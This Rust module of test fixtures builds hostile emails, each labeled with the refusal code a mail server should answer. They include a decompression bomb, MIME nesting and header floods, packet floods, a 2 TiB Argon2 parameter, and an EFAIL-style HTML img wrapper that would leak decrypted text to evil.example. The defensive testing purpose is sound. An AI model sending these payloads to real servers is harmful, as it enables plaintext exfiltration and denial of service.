//! Mail that wants to hurt: what strangers may send to a team's published address. Each says
//! with which word it must be refused.

use crate::domain::time::At;
use crate::pgp::hostile::{armored, bomb, packet, sealed, signed_often};
use crate::pgp::{Certificate, ResidentSigner, SealError, Signer as _};

const MIB: usize = 1024 * 1024;

/// One such mail.
pub struct Attack {
    /// What it is.
    pub name: &'static str,
    /// The word with which a mail server is told.
    pub code: &'static str,
    /// Its bytes.
    pub mail: Vec<u8>,
}

/// An armored message as the whole text of a mail.
pub fn inline(armored: &[u8]) -> Vec<u8> {
    [b"From: security@heath.example\r\nSubject: Re: [...]\r\n\r\n", armored].concat()
}

fn crlf(text: &str) -> Vec<u8> {
    text.replace('\n', "\r\n").into_bytes()
}

/// All of them, against the team's certificate; `signer` is somebody on its list.
pub async fn attacks(
    team: &Certificate,
    signer: &ResidentSigner,
    at: At,
) -> Result<Vec<Attack>, SealError> {
    let words = signer.sign_message(b"hello", &[], at).await?;
    let whole = sealed(&words, team, at)?;
    let to_team = |packets: &[u8]| sealed(packets, team, at).map(|m| inline(&m));
    // Version 4, AES-256, Argon2 with t = 1, p = 1 and 2^31 KiB of memory.
    let argon2 = [&[4, 9, 4][..], &[7; 16], &[1, 1, 31]].concat();
    let session_key = packet(1, &[&[3][..], &[0; 8], &[18], &[0; 50]].concat());
    let body = packet(18, &[&[1][..], &[0x55; 200]].concat());
    let often = signed_often(&words, 50_000).ok_or(SealError::Failed)?;
    let outside = [packet(2, &[0; 70]).repeat(50_000), words.clone()].concat();
    let keys = [session_key.repeat(50_000), body.clone()].concat();
    let passwords = [packet(3, &argon2), body.clone()].concat();
    let wrapped = [session_key, body].concat();
    let image = "Content-Type: text/html\n\n<img src=\"http://evil.example/?";
    let all = vec![
        ("26 MiB", "too-large", vec![b'x'; 26 * MIB]),
        ("3 million parts", "too-many-parts", parts()),
        ("5000 levels", "too-deep", levels()),
        ("a million headers", "headers", crlf(&"X-Header: value\n".repeat(MIB))),
        ("EFAIL", "mixed", beside(&whole, image, "Content-Type: text/html\n\n\">")),
        ("a clear part before", "mixed", beside(&whole, "\nread this too\n", "\n")),
        ("unfolds to 200 MiB", "opens-too-large", inline(&bomb(200, team, at)?)),
        ("50k signatures inside", "hostile-packets", to_team(&often)?),
        ("50k signatures outside", "hostile-packets", inline(&armored(&outside))),
        ("50k session keys", "hostile-packets", inline(&armored(&keys))),
        ("Argon2 with 2 TiB", "hostile-packets", inline(&armored(&passwords))),
        ("a signature of 4 MiB", "hostile-packets", to_team(&packet(2, &vec![0; 4 * MIB]))?),
        ("encryption in encryption", "hostile-packets", to_team(&wrapped)?),
        ("an encrypted mail in one", "nested", to_team(&nested(&whole))?),
        ("one letter changed", "damaged", inline(&damaged(&whole))),
        ("not OpenPGP at all", "damaged", inline(&armored(&[b'x'; 5000]))),
    ];
    Ok(all.into_iter().map(|(name, code, mail)| Attack { name, code, mail }).collect())
}

fn parts() -> Vec<u8> {
    let head = "Content-Type: multipart/mixed; boundary=b\n\n";
    crlf(&[head, &"--b\n\n".repeat(3 * MIB)].concat())
}

fn levels() -> Vec<u8> {
    let level = |n| format!("Content-Type: multipart/mixed; boundary=b{n}\n\n--b{n}\n");
    crlf(&(0..5000).map(level).collect::<String>())
}

/// The ciphertext between two parts of the attacker's.
fn beside(armored: &[u8], before: &str, after: &str) -> Vec<u8> {
    let head = "From: a@b.example\nContent-Type: multipart/mixed; boundary=m\n\n--m\n";
    let start = crlf(&format!("{head}{before}\n--m\nContent-Type: application/octet-stream\n\n"));
    [&start[..], armored, &crlf(&format!("\n--m\n{after}\n--m--\n"))].concat()
}

/// A whole encrypted mail as literal data.
fn nested(armored: &[u8]) -> Vec<u8> {
    let version = "Content-Type: application/pgp-encrypted\n\nVersion: 1\n";
    let start = crlf(&format!(
        "Content-Type: multipart/encrypted; boundary=n\n\n--n\n{version}\n--n\n\
         Content-Type: application/octet-stream\n\n"
    ));
    let literal = b"b\0\0\0\0\0";
    packet(11, &[&literal[..], &start, armored, b"\r\n--n--\r\n"].concat())
}

fn damaged(armored: &[u8]) -> Vec<u8> {
    let mut damaged = armored.to_vec();
    let middle = damaged.len() / 2;
    let letter = damaged.iter_mut().skip(middle).find(|b| b.is_ascii_alphanumeric());
    if let Some(letter) = letter {
        *letter = if *letter == b'A' { b'B' } else { b'A' };
    }
    damaged
}
